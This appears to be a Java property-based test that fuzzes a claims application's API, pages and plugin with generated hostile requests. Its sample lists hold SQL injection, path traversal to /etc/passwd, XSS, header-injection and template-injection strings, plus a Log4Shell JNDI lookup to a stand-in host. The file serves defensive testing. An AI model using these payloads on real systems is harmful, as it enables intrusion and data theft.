package org.cpor.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.filter.ThresholdFilter;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Collectors;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.EdgeCasesMode;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterProperty;
import net.jqwik.api.lifecycle.BeforeProperty;
import net.jqwik.api.statistics.Statistics;
import org.cpor.customer.CustomerLinks;
import org.cpor.support.IntegrationTest;
import org.cpor.support.TestData;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpMethod;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.context.TestContextManager;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.test.web.servlet.request.MockMvcRequestBuilders;

/**
 * Ten thousand generated hostile requests across the partner API, the customer's pages and the Cockpit plugin's
 * resources: random, huge, unicode and control-character text, JSON of the wrong shape, deep nesting, huge arrays,
 * extreme numbers, broken multipart bodies, odd content types and methods, path traversal and SQL-ish text.
 * Whatever arrives: never a 5xx (nor an unexpected failure logged behind an answer already begun), never a stack
 * trace or SQL text in a body, and never a partial claim (a request that did not create something leaves the
 * claims, their workloads and the PoE files as they were).
 *
 * <p>Most requests go through MockMvc; multipart bodies that must be parsed by the server and the plugin (a
 * JAX-RS application beside Spring MVC) go through the real port. The Spring context is the suite's shared one.
 */
class HostileRequestsTest extends IntegrationTest {

  /** What a server must never show: its stack traces and its SQL. Generated text never contains these. */
  private static final List<String> LEAKS = List.of("at org.", "Exception", "select ", "SQL", "JDBC", "org.h2", "PSQLException");

  private static final String ANONYMOUS = "anonymous";

  /** Every endpoint the generator aims at; each must be hit. */
  private static final List<String> ENDPOINTS = List.of("claims submit (JSON)", "claims submit (multipart)", "claims list",
      "claim detail", "claim timeline", "claim information", "claim withdrawal", "claim dispute", "poe upload", "poe download",
      "associations", "calendar", "audit csv", "customer page", "plugin search", "plugin claim", "plugin statistics", "odd requests");

  private static final String PLUGIN = "/camunda/api/cockpit/plugin/claims-history/default/claims";

  @Autowired CustomerLinks links;
  @LocalServerPort int port;

  /**
   * Where the API and the plugin log a failure they did not expect: such a failure may be answered 200 when the
   * answer had already begun (a CSV streaming out), so the logs are watched as well as the statuses.
   */
  private static final List<String> FAILURE_LOGGERS = List.of(ApiProblems.class.getName(),
      "org.cpor.audit.cockpit.ClaimsHistoryResource");

  private final ListAppender<ILoggingEvent> failures = new ListAppender<>();
  private List<Long> rowsNow;
  private HttpClient http;
  private HttpClient auditorSession;
  private Fixture fixture;

  /** The claims the requests aim at, besides made-up ones. */
  record Fixture(String underReview, String approved, String official, String associationId, String poeId, String customerToken) {}

  /** One generated request; {@code viaServer} sends it through the real port. */
  record Hostile(String endpoint, String method, String path, Map<String, String> query, String contentType, byte[] body,
      String user, boolean viaServer, boolean withCsrf) {

    @Override
    public String toString() {
      String shownBody = body == null ? "" : new String(body, 0, Math.min(body.length, 600), StandardCharsets.UTF_8)
          + (body.length > 600 ? "…(" + body.length + " bytes)" : "");
      return endpoint + ": " + method + " " + path + " " + query + " as " + user + " [" + contentType + "] "
          + (viaServer ? "via server " : "") + shownBody;
    }
  }

  record Answer(int status, String contentType, String body) {}

  @BeforeProperty
  void theApplication() throws Exception {
    new TestContextManager(getClass()).prepareTestInstance(this);
    clock.set(NOW);
    identity.clearAuthentication();
    TestData.reset(jdbc, runtime);
    http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
    auditorSession = signedIn(port, "auditor");

    String underReview = submit(Map.of());
    String approved = submit(Map.of("customerTenantId", ADATUM, "customerDomain", "adatum.hu",
        "workloads", List.of(Map.of("code", "INTUNE"))));
    validate(approved, "APPROVED", null, null);
    management.executeJob(job(approved).getId());
    String official = submit(Map.of("workloads", List.of(Map.of("code", "COPILOT"))));
    validate(official, "APPROVED", null, null);
    management.executeJob(job(official).getId());
    runWhenDue(timer(official, "BoundaryEvent_OptOutWindowElapsed"));
    clock.set(NOW);
    String associationId = jdbc.sql("select id from associations where claim_id = ?").param(official).query(String.class).single();
    String poeId = uploadPoe("fabrikam-admin", "spare-poe.pdf", PDF);
    fixture = new Fixture(underReview, approved, official, associationId, poeId, links.token(approved));
    mail.purgeEmailFromAllMailboxes();
    rowsNow = rows();
    ThresholdFilter errorsOnly = new ThresholdFilter();
    errorsOnly.setLevel("ERROR");
    errorsOnly.start();
    failures.addFilter(errorsOnly);
    failures.start();
    FAILURE_LOGGERS.forEach(name -> ((Logger) LoggerFactory.getLogger(name)).addAppender(failures));
  }

  @AfterProperty
  void resetClock() {
    FAILURE_LOGGERS.forEach(name -> ((Logger) LoggerFactory.getLogger(name)).detachAppender(failures));
    clock.reset();
    identity.clearAuthentication();
  }

  @Property(tries = 10_000, shrinking = ShrinkingMode.BOUNDED, edgeCases = EdgeCasesMode.NONE)
  void hostileRequests_neverFailTheServerNorLeakNorLeaveAPartialClaim(@ForAll("hostileRequests") Hostile request) throws Exception {
    Statistics.label("endpoint").collect(request.endpoint());
    Statistics.label("transport").collect(request.viaServer() ? "server" : "mockmvc");
    // nothing but these requests changes the store while the property runs: the last count is the count before
    List<Long> before = rowsNow;

    failures.list.clear();
    Answer answer = send(request);
    Statistics.label("status").collect(answer.status() / 100 + "xx");
    rowsNow = rows();

    assertThat(answer.status()).as("status of %s%n answered %s", request, answer.body()).isLessThan(500);
    assertThat(failures.list).as("failures logged while answering %s%n with %d %s", request, answer.status(), answer.body())
        .extracting(ILoggingEvent::getFormattedMessage, e -> String.valueOf(e.getThrowableProxy() == null ? null
            : e.getThrowableProxy().getClassName() + ": " + e.getThrowableProxy().getMessage()))
        .isEmpty();
    for (String leak : LEAKS) {
      assertThat(answer.body()).as("body of %s", request).doesNotContain(leak);
    }
    if (answer.status() != 201) {
      assertThat(rowsNow).as("claims, claim_workloads, poe_files after %s%n answered %d %s", request, answer.status(), answer.body())
          .isEqualTo(before);
    }
    Statistics.label("endpoint").coverage(coverage -> ENDPOINTS.forEach(e -> coverage.check(e).count(n -> n >= 50)));
  }

  private List<Long> rows() {
    return jdbc.sql("select (select count(*) from claims), (select count(*) from claim_workloads), (select count(*) from poe_files)")
        .query((rs, n) -> List.of(rs.getLong(1), rs.getLong(2), rs.getLong(3))).single();
  }

  // --- sending ----------------------------------------------------------------------------------------------------

  private Answer send(Hostile request) throws Exception {
    return request.viaServer() ? viaServer(request) : viaMockMvc(request);
  }

  private Answer viaMockMvc(Hostile request) throws Exception {
    MockHttpServletRequestBuilder builder = MockMvcRequestBuilders.request(HttpMethod.valueOf(request.method()),
        URI.create(request.path() + queryString(request.query())));
    if (request.contentType() != null) {
      builder.header("Content-Type", request.contentType());
    }
    if (request.body() != null) {
      builder.content(request.body());
    }
    if (!ANONYMOUS.equals(request.user())) {
      builder.with(httpBasic(request.user(), password(request.user())));
    }
    if (request.withCsrf()) {
      builder.with(csrf());
    }
    MockHttpServletResponse response;
    try {
      response = mvc.perform(builder).andReturn().getResponse();
    } catch (Exception e) {
      // what escapes every handler is what a servlet container answers with 500
      return new Answer(500, null, "escaped the application: " + e);
    }
    return new Answer(response.getStatus(), response.getContentType(), response.getContentAsString(StandardCharsets.UTF_8));
  }

  private Answer viaServer(Hostile request) throws Exception {
    HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create("http://localhost:" + port + request.path()
        + queryString(request.query()))).timeout(Duration.ofSeconds(60))
        .method(request.method(), request.body() == null ? HttpRequest.BodyPublishers.noBody()
            : HttpRequest.BodyPublishers.ofByteArray(request.body()));
    if (request.contentType() != null) {
      builder.header("Content-Type", request.contentType());
    }
    HttpClient client = http;
    if (request.path().startsWith("/camunda/")) {
      client = "auditor".equals(request.user()) ? auditorSession : http;
    } else if (!ANONYMOUS.equals(request.user())) {
      builder.header("Authorization", "Basic " + Base64.getEncoder().encodeToString(
          (request.user() + ":" + password(request.user())).getBytes(StandardCharsets.UTF_8)));
    }
    HttpResponse<String> response = client.send(builder.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(null), response.body());
  }

  /** Users sign in with their own password; "mallory" does not exist (a wrong password would lock a real user). */
  private static String password(String user) {
    return "mallory".equals(user) ? "not-a-password" : user;
  }

  private static String queryString(Map<String, String> query) {
    if (query.isEmpty()) {
      return "";
    }
    return "?" + query.entrySet().stream()
        .map(e -> encode(e.getKey()) + "=" + encode(e.getValue()))
        .collect(Collectors.joining("&"));
  }

  private static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
  }

  /** A path segment as a client would send it: percent-encoded, so that it stays one segment (or is refused). */
  private static String segment(String value) {
    return encode(value);
  }

  // --- generators ---------------------------------------------------------------------------------------------------

  @Provide
  Arbitrary<Hostile> hostileRequests() {
    return Arbitraries.frequencyOf(
        Tuple.of(14, submitJson()),
        Tuple.of(6, submitMultipart()),
        Tuple.of(8, listClaims()),
        Tuple.of(5, claimRead("detail", "")),
        Tuple.of(4, claimRead("timeline", "/timeline")),
        Tuple.of(5, claimChange("information", "/information", informationBody())),
        Tuple.of(5, claimChange("withdrawal", "/withdrawal", reasonBody("reason"))),
        Tuple.of(5, claimChange("dispute", "/dispute", disputeBody())),
        Tuple.of(6, poeUpload()),
        Tuple.of(4, poeDownload()),
        Tuple.of(5, associations()),
        Tuple.of(4, calendar()),
        Tuple.of(3, auditCsv()),
        Tuple.of(8, customerPages()),
        Tuple.of(8, plugin()),
        Tuple.of(5, oddRequests()));
  }

  /** Who calls: mostly the partner's admin, also a read-only user, another organisation, staff and strangers. */
  private Arbitrary<String> user() {
    return Arbitraries.frequency(Tuple.of(10, "fabrikam-admin"), Tuple.of(2, "fabrikam-user"), Tuple.of(2, "northwind-admin"),
        Tuple.of(1, "auditor"), Tuple.of(1, "admin"), Tuple.of(1, "validator"), Tuple.of(1, ANONYMOUS), Tuple.of(1, "mallory"));
  }

  /** Text an attacker types: samples of known tricks, random unicode with control characters, and huge text. */
  static Arbitrary<String> hostileText() {
    Arbitrary<String> samples = Arbitraries.of("", " ", "\t\n", "\u0000", "\u0000abc", "\r\nX-Injected: yes", "../../etc/passwd",
        "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/", "//", ".", "..", "' OR '1'='1", "'; DROP TABLE claims; --",
        "\" OR 1=1 --", "1 UNION ALL SELECT NULL, NULL--", "1; WAITFOR DELAY '0:0:5'--", "' || pg_sleep(5) --", "$1", "?", "%",
        "%00", "%s%s%s%n", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "javascript:alert(1)", "# Heading\n* list", "[a](javascript:alert(1))",
        "\u202Egnp.exe", "\uFEFF", "\uD83D\uDC69\u200D\uD83D\uDCBB", "\uD800", "\uDFFF", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "ÁRVÍZTŰRŐ TÜKÖRFÚRÓGÉP",
        "NaN", "Infinity", "-0", "-1", "0", "2147483648", "-2147483649", "99999999999999999999999", "1e309", "0x1F", "true", "null",
        "[]", "{}", "{\"$gt\": \"\"}", CONTOSO, ADATUM, "4567890", "7654321", "TEAMS", "INTUNE", "APPROVED", "UNDER_REVIEW",
        "2026-12-02", "2026-13-45", "0000-00-00", "+999999999-12-31", "contoso.onmicrosoft.com", "ada@contoso.com", "en", "hu", "xx");
    Arbitrary<String> random = Arbitraries.strings().all().ofMaxLength(80);
    Arbitrary<String> controls = Arbitraries.strings().withCharRange('\u0000', '\u001F').withChars("\u007F\u0085\u2028\u2029")
        .ofMinLength(1).ofMaxLength(20);
    Arbitrary<String> ascii = Arbitraries.strings().ascii().ofMaxLength(300);
    Arbitrary<String> huge = Arbitraries.integers().between(1_000, 120_000).map(n -> "A".repeat(n));
    Arbitrary<String> hugeUnicode = Arbitraries.strings().all().ofMinLength(1_000).ofMaxLength(12_000);
    return Arbitraries.frequencyOf(Tuple.of(10, samples), Tuple.of(8, random), Tuple.of(3, controls), Tuple.of(5, ascii),
        Tuple.of(1, huge), Tuple.of(1, hugeUnicode)).filter(HostileRequestsTest::innocent);
  }

  /** Hostile text cut to a length where a long value makes no sense (a lone surrogate may remain: hostile too). */
  static Arbitrary<String> hostileText(int maxLength) {
    return hostileText().map(t -> t.length() > maxLength ? t.substring(0, maxLength) : t);
  }

  /** Generated text never looks like a leak itself, so that any leak found in a body comes from the server. */
  static boolean innocent(String text) {
    String lower = text.toLowerCase(Locale.ROOT);
    return LEAKS.stream().noneMatch(leak -> lower.contains(leak.toLowerCase(Locale.ROOT)));
  }

  /** Any JSON value, up to the given depth of nesting. */
  static Arbitrary<Object> jsonValue(int depth) {
    List<Tuple.Tuple2<Integer, Arbitrary<?>>> choices = new ArrayList<>(List.of(
        Tuple.of(6, hostileText()),
        Tuple.of(2, Arbitraries.longs()),
        Tuple.of(1, Arbitraries.of(Long.MAX_VALUE, Long.MIN_VALUE, 0L, -1L, Integer.MAX_VALUE + 1L)),
        Tuple.of(1, Arbitraries.doubles()),
        Tuple.of(1, Arbitraries.bigIntegers().between(java.math.BigInteger.TEN.pow(30), java.math.BigInteger.TEN.pow(40))),
        Tuple.of(1, Arbitraries.of(true, false)),
        Tuple.of(1, Arbitraries.just(com.fasterxml.jackson.databind.node.NullNode.getInstance()))));
    if (depth > 0) {
      choices.add(Tuple.of(2, jsonValue(depth - 1).list().ofMaxSize(5).map(l -> (Object) l)));
      choices.add(Tuple.of(2, Arbitraries.maps(hostileText(20), jsonValue(depth - 1)).ofMaxSize(4).map(m -> (Object) m)));
    }
    @SuppressWarnings({"unchecked", "rawtypes"})
    Arbitrary<Object> value = (Arbitrary) Arbitraries.frequencyOf(choices.toArray(Tuple.Tuple2[]::new));
    return value;
  }

  /** Huge arrays of plausible entries, so that the work done per entry shows. */
  static Arbitrary<Object> hugeArray() {
    return Combinators.combine(Arbitraries.integers().between(500, 5_000), Arbitraries.integers().between(0, 3)).as((n, kind) ->
        (Object) switch (kind) {
          case 0 -> java.util.Collections.nCopies(n, Map.of("code", "TEAMS"));
          case 1 -> java.util.stream.IntStream.range(0, n).mapToObj(i -> Map.of("code", "W" + i)).toList();
          case 2 -> java.util.Collections.nCopies(n, CONTOSO);
          default -> java.util.stream.IntStream.range(0, n).mapToObj(i -> String.format("%08x-0000-4000-8000-%012x", i, i)).toList();
        });
  }

  /** A JSON body that is not JSON: truncated, deeply nested, binary, or of another shape altogether. */
  static Arbitrary<byte[]> brokenJson() {
    Arbitrary<String> text = Arbitraries.oneOf(
        Arbitraries.of("", "{", "}", "[", "{\"name\":", "{\"name\": \"x\"", "{'name': 'x'}", "{\"a\":1,}", "nul", "tru", "\"just text\"",
            "42", "-1", "[]", "[{}]", "{\"workloads\": {\"code\": \"TEAMS\"}}", "{\"poeIds\": \"abc\"}", "{\"incentiveOptOut\": \"yes\"}",
            "{\"customerContact\": \"ada\"}", "{\"name\": 1e999}", "{\"name\": \"a\", \"name\": \"b\"}", "\uFEFF{}", "{\"\u0000\": 1}"),
        Arbitraries.integers().between(10, 4_000).map(n -> "[".repeat(n) + "]".repeat(n)),
        Arbitraries.integers().between(10, 2_000).map(n -> "{\"a\":".repeat(n) + "1" + "}".repeat(n)),
        Arbitraries.integers().between(10, 3_000).map(n -> "{\"workloads\": " + "[".repeat(n)),
        Arbitraries.integers().between(100, 2_000).map(n -> "{\"name\": " + "9".repeat(n) + "}"),
        hostileText());
    return Arbitraries.oneOf(text.map(t -> t.getBytes(StandardCharsets.UTF_8)),
        Arbitraries.bytes().array(byte[].class).ofMaxSize(2_000).filter(b -> innocent(new String(b, StandardCharsets.ISO_8859_1))));
  }

  /** A valid claim of Fabrikam's with the fixture's PoE file, to spoil one field at a time. */
  private Map<String, Object> validClaim() {
    try {
      return claimBody(Map.of("poeIds", List.of(fixture.poeId())));
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static final List<String> CLAIM_FIELDS = List.of("name", "partnerId", "program", "customerTenantId", "customerDomain",
      "workloads", "customerContact", "partnerContact", "incentiveOptOut", "comment", "poeIds", "customerContact.name",
      "customerContact.title", "customerContact.email", "customerContact.language", "partnerContact.name", "partnerContact.email",
      "workloads[0].code", "workloads[0].subscriptionId", "unknownField");

  /** A valid claim with one to three fields replaced by something hostile, or removed. */
  private Arbitrary<byte[]> mutatedClaim() {
    Arbitrary<Object> replacement = Arbitraries.frequencyOf(Tuple.of(8, jsonValue(3)), Tuple.of(1, hugeArray()),
        Tuple.of(1, Arbitraries.just(Removed.FIELD)));
    Arbitrary<Tuple.Tuple2<String, Object>> change = Combinators.combine(Arbitraries.of(CLAIM_FIELDS), replacement).as(Tuple::of);
    return change.list().ofMinSize(1).ofMaxSize(3).map(changes -> {
      Map<String, Object> body = validClaim();
      for (Tuple.Tuple2<String, Object> c : changes) {
        apply(body, c.get1(), c.get2());
      }
      return json(body);
    });
  }

  enum Removed { FIELD }

  @SuppressWarnings("unchecked")
  private static void apply(Map<String, Object> body, String field, Object value) {
    if (field.startsWith("workloads[0].")) {
      Map<String, Object> workload = new LinkedHashMap<>(Map.of("code", "TEAMS"));
      put(workload, field.substring("workloads[0].".length()), value);
      body.put("workloads", List.of(workload));
    } else if (field.contains(".")) {
      String parent = field.substring(0, field.indexOf('.'));
      Object current = body.get(parent);
      Map<String, Object> nested = current instanceof Map<?, ?> m ? new LinkedHashMap<>((Map<String, Object>) m) : new LinkedHashMap<>();
      put(nested, field.substring(field.indexOf('.') + 1), value);
      body.put(parent, nested);
    } else {
      put(body, field, value);
    }
  }

  private static void put(Map<String, Object> map, String key, Object value) {
    if (value == Removed.FIELD) {
      map.remove(key);
    } else {
      map.put(key, value);
    }
  }

  /** As a client would send it; a lone surrogate becomes '?' on the way to UTF-8, as it would in any client. */
  private byte[] json(Object value) {
    try {
      return json.writeValueAsString(value).getBytes(StandardCharsets.UTF_8);
    } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static final List<String> ODD_TYPES = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
      "application/octet-stream", "application/json; charset=utf-16", "application/json; charset=nonsense", "application/problem+json",
      "multipart/form-data", "multipart/mixed; boundary=x", "image/png", "*/*", "application/*", "json", "", "\u00e9/\u00e9",
      "application/json;;;", "application/json; boundary=\"");

  private Arbitrary<String> contentType(String usual) {
    return Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.just(usual)), Tuple.of(2, Arbitraries.of(ODD_TYPES)),
        Tuple.of(1, hostileText(60).filter(t -> t.chars().allMatch(c -> c >= 0x20 && c < 0x7F))));
  }

  private Arbitrary<Hostile> submitJson() {
    Arbitrary<byte[]> body = Arbitraries.frequencyOf(Tuple.of(6, mutatedClaim()), Tuple.of(2, brokenJson()),
        Tuple.of(1, jsonValue(4).map(this::json)));
    return Combinators.combine(body, contentType("application/json"), user())
        .as((b, type, user) -> new Hostile("claims submit (JSON)", "POST", "/api/claims", Map.of(), type, b, user, false, false));
  }

  // --- multipart ----------------------------------------------------------------------------------------------------

  record Part(String name, String fileName, String contentType, byte[] content) {}

  private static byte[] multipartBody(String boundary, List<Part> parts, boolean closed) {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    for (Part part : parts) {
      String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + part.name() + "\""
          + (part.fileName() == null ? "" : "; filename=\"" + part.fileName() + "\"") + "\r\n"
          + (part.contentType() == null ? "" : "Content-Type: " + part.contentType() + "\r\n") + "\r\n";
      out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
      out.writeBytes(part.content());
      out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
    }
    if (closed) {
      out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
    }
    return out.toByteArray();
  }

  /** File names as attackers choose them: control characters, Markdown, traversal, quotes that break the header. */
  private Arbitrary<String> fileName() {
    return Arbitraries.frequencyOf(Tuple.of(3, Arbitraries.of("poe.pdf", "scan.png", "photo.jpeg", "contract.docx", "poe.exe", "poe",
            ".pdf", "a\n# Heading\n<img src=x onerror=alert(1)>.pdf", "../../../etc/passwd", "..\\..\\boot.ini", "C:\\temp\\poe.pdf",
            "poe.pdf\u0000.exe", "\u202Efdp.exe", "\"quoted\".pdf", "semi;colon.pdf", "%2e%2e%2fpoe.pdf", "CON", "poe.PDF")),
        Tuple.of(2, hostileText(300)));
  }

  private Arbitrary<byte[]> fileContent() {
    return Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.just(PDF)), Tuple.of(3, Arbitraries.bytes().array(byte[].class).ofMaxSize(4_096)),
        Tuple.of(1, Arbitraries.just(new byte[0])),
        Tuple.of(1, Arbitraries.just("\u0089PNG\r\n\u001a\n".getBytes(StandardCharsets.ISO_8859_1))),
        Tuple.of(1, Arbitraries.integers().between(1, 3).map(n -> new byte[n * 400_000])));
  }

  /** A multipart body, sometimes broken: truncated anywhere, wrong or missing boundary, garbage. */
  private Arbitrary<Tuple.Tuple2<String, byte[]>> multipart(Arbitrary<List<Part>> parts) {
    Arbitrary<String> boundary = Arbitraries.of("cpor-7d93", "x", "----WebKitFormBoundary7MA4YWxkTrZu0gW", "a".repeat(70));
    return Combinators.combine(boundary, parts, Arbitraries.integers().between(0, 9), Arbitraries.doubles().between(0, 1),
        Arbitraries.bytes().array(byte[].class).ofMaxSize(200)).as((b, p, damage, where, garbage) -> {
          byte[] whole = multipartBody(b, p, damage != 1);
          String type = "multipart/form-data; boundary=" + b;
          return switch (damage) {
            case 0, 1 -> Tuple.of(type, java.util.Arrays.copyOf(whole, (int) (whole.length * where)));
            case 2 -> Tuple.of("multipart/form-data", whole);
            case 3 -> Tuple.of("multipart/form-data; boundary=other", whole);
            case 4 -> Tuple.of(type, garbage);
            case 5 -> Tuple.of("multipart/form-data; boundary=", whole);
            default -> Tuple.of(type, whole);
          };
        });
  }

  private Arbitrary<Hostile> submitMultipart() {
    Arbitrary<Part> claimPart = Arbitraries.frequencyOf(Tuple.of(5, mutatedClaim()), Tuple.of(1, brokenJson()))
        .map(b -> new Part("claim", null, "application/json", b));
    Arbitrary<Part> poePart = Combinators.combine(fileName(), fileContent(),
        Arbitraries.of("application/pdf", "application/octet-stream", "text/html", "image/png"))
        .as((name, content, type) -> new Part("poe", name, type, content));
    Arbitrary<List<Part>> parts = Combinators.combine(claimPart.optional(), poePart.list().ofMaxSize(3))
        .as((claim, poes) -> {
          List<Part> all = new ArrayList<>();
          claim.ifPresent(all::add);
          all.addAll(poes);
          return all;
        });
    return Combinators.combine(multipart(parts), user())
        .as((m, user) -> new Hostile("claims submit (multipart)", "POST", "/api/claims", Map.of(), m.get1(), m.get2(), user, true, false));
  }

  private Arbitrary<Hostile> poeUpload() {
    Arbitrary<Part> filePart = Combinators.combine(Arbitraries.of("file", "file", "file", "poe", "", "FILE"), fileName(), fileContent())
        .as((name, file, content) -> new Part(name, file, "application/octet-stream", content));
    Arbitrary<List<Part>> parts = filePart.list().ofMaxSize(2);
    Arbitrary<Hostile> raw = Combinators.combine(multipart(parts), user())
        .as((m, user) -> new Hostile("poe upload", "POST", "/api/poe", Map.of(), m.get1(), m.get2(), user, true, false));
    Arbitrary<Hostile> odd = Combinators.combine(contentType("multipart/form-data; boundary=x"), brokenJson(), user())
        .as((type, body, user) -> new Hostile("poe upload", "POST", "/api/poe", Map.of(), type, body, user, true, false));
    return Arbitraries.frequencyOf(Tuple.of(4, raw), Tuple.of(1, odd));
  }

  // --- the other endpoints ------------------------------------------------------------------------------------------

  private Arbitrary<Map<String, String>> query(String... names) {
    Arbitrary<String> value = Arbitraries.frequencyOf(Tuple.of(5, hostileText()), Tuple.of(2, Arbitraries.integers().map(String::valueOf)),
        Tuple.of(1, Arbitraries.of("0", "1", "200", "201", "-1", "2147483647", "-2147483648", "2147483648", "1000000000")),
        Tuple.of(2, Arbitraries.of("+999999999-12-31", "-999999999-01-01", "9999-12-31", "0000-01-01", "2026-02-30", "2026-12-02")));
    Arbitrary<String> name = Arbitraries.frequencyOf(Tuple.of(6, Arbitraries.of(names)), Tuple.of(1, hostileText(20)));
    return Arbitraries.maps(name, value).ofMaxSize(5);
  }

  private Arbitrary<Hostile> listClaims() {
    return Combinators.combine(query("status", "tenantId", "workload", "page", "size"), user())
        .as((q, user) -> new Hostile("claims list", "GET", "/api/claims", q, null, null, user, false, false));
  }

  /** A claim ID: one of the fixture's (of any state), another organisation's, made up, or hostile. */
  private Arbitrary<String> claimId() {
    return Arbitraries.frequencyOf(
        Tuple.of(3, Arbitraries.of("underReview", "approved", "official").map(which -> switch (which) {
          case "underReview" -> fixture.underReview();
          case "approved" -> fixture.approved();
          default -> fixture.official();
        })),
        Tuple.of(1, Arbitraries.create(() -> java.util.UUID.randomUUID().toString())),
        Tuple.of(3, hostileText().filter(t -> !t.isEmpty())));
  }

  private Arbitrary<Hostile> claimRead(String name, String suffix) {
    return Combinators.combine(claimId(), user(), Arbitraries.of("GET", "GET", "GET", "HEAD"))
        .as((id, user, method) -> new Hostile("claim " + name, method, "/api/claims/" + segment(id) + suffix, Map.of(), null, null, user,
            false, false));
  }

  private Arbitrary<Hostile> claimChange(String name, String suffix, Arbitrary<byte[]> body) {
    Arbitrary<byte[]> anyBody = Arbitraries.frequencyOf(Tuple.of(5, body), Tuple.of(2, brokenJson()), Tuple.of(1, Arbitraries.just(new byte[0])));
    return Combinators.combine(claimId(), anyBody, contentType("application/json"), user())
        .as((id, b, type, user) -> new Hostile("claim " + name, "POST", "/api/claims/" + segment(id) + suffix, Map.of(), type, b, user,
            false, false));
  }

  private Arbitrary<byte[]> reasonBody(String field) {
    return Arbitraries.frequencyOf(Tuple.of(3, hostileText()), Tuple.of(1, jsonValue(2)))
        .map(value -> {
          Map<String, Object> body = new LinkedHashMap<>();
          body.put(field, value);
          return json(body);
        });
  }

  private Arbitrary<byte[]> informationBody() {
    Arbitrary<Object> poeIds = Arbitraries.frequencyOf(Tuple.of(2, Arbitraries.create(() -> List.of(fixture.poeId()))),
        Tuple.of(2, jsonValue(2)), Tuple.of(1, hugeArray()));
    return Combinators.combine(jsonValue(1), poeIds, Arbitraries.frequencyOf(Tuple.of(2, jsonValue(2)), Tuple.of(1, hugeArray())),
        jsonValue(2), jsonValue(2)).as((comment, ids, workloads, customer, partner) -> {
          Map<String, Object> body = new LinkedHashMap<>();
          body.put("comment", comment);
          body.put("poeIds", ids);
          body.put("workloads", workloads);
          body.put("customerContact", customer);
          body.put("partnerContact", partner);
          return json(body);
        });
  }

  private Arbitrary<byte[]> disputeBody() {
    Arbitrary<Object> poeIds = Arbitraries.frequencyOf(Tuple.of(2, Arbitraries.create(() -> List.of(fixture.poeId()))),
        Tuple.of(2, jsonValue(2)), Tuple.of(1, hugeArray()));
    return Combinators.combine(jsonValue(1), poeIds).as((justification, ids) -> {
      Map<String, Object> body = new LinkedHashMap<>();
      body.put("justification", justification);
      body.put("poeIds", ids);
      return json(body);
    });
  }

  private Arbitrary<Hostile> poeDownload() {
    Arbitrary<String> id = Arbitraries.frequencyOf(Tuple.of(2, Arbitraries.create(() -> fixture.poeId())), Tuple.of(3, hostileText()));
    Arbitrary<Hostile> encoded = Combinators.combine(id, user())
        .as((i, user) -> new Hostile("poe download", "GET", "/api/poe/" + segment(i), Map.of(), null, null, user, false, false));
    Arbitrary<Hostile> traversal = Combinators.combine(Arbitraries.of("/api/poe/../../etc/passwd", "/api/poe/..%2F..%2Fetc%2Fpasswd",
            "/api/poe/%2e%2e/%2e%2e/etc/passwd", "/api/poe/./", "/api/poe//", "/api/poe/%00", "/api/poe/a%5C..%5Cb",
            "/api/poe/;jsessionid=1", "/api/claims/..;/poe"), user())
        .as((path, user) -> new Hostile("poe download", "GET", path, Map.of(), null, null, user, true, false));
    return Arbitraries.frequencyOf(Tuple.of(4, encoded), Tuple.of(1, traversal));
  }

  private Arbitrary<Hostile> associations() {
    Arbitrary<Hostile> list = Combinators.combine(query("tenantId", "workload", "status", "page", "size"), user())
        .as((q, user) -> new Hostile("associations", "GET", "/api/associations", q, null, null, user, false, false));
    Arbitrary<String> id = Arbitraries.frequencyOf(Tuple.of(1, Arbitraries.create(() -> fixture.associationId())),
        Tuple.of(3, hostileText().filter(t -> !t.isEmpty())));
    Arbitrary<byte[]> body = Arbitraries.frequencyOf(Tuple.of(3, reasonBody("reason")), Tuple.of(1, brokenJson()));
    Arbitrary<Hostile> disassociate = Combinators.combine(id, body, contentType("application/json"), user())
        .as((i, b, type, user) -> new Hostile("associations", "POST", "/api/associations/" + segment(i) + "/disassociation", Map.of(),
            type, b, user, false, false));
    return Arbitraries.frequencyOf(Tuple.of(3, list), Tuple.of(2, disassociate));
  }

  private Arbitrary<Hostile> calendar() {
